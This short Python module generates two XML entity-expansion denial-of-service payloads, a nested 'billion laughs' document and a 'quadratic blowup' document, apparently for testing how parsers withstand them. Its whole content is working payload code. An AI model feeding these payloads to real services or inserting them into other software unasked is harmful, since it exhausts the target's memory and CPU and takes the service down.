"""XML written to hurt a parser: entity-expansion bombs."""

from __future__ import annotations


def billion_laughs(levels: int = 10) -> bytes:
    """Each entity holds ten of the previous one: 10**levels copies of "lol" once expanded."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels)
    ]
    return f"<!DOCTYPE lolz [{''.join(entities)}]><lolz>&lol{levels - 1};</lolz>".encode()


def quadratic_blowup(size: int = 100_000, references: int = 50_000) -> bytes:
    """One large entity referenced many times: no nesting, still gigabytes once expanded."""
    return f'<!DOCTYPE q [<!ENTITY a "{"x" * size}">]><q>{"&a;" * references}</q>'.encode()
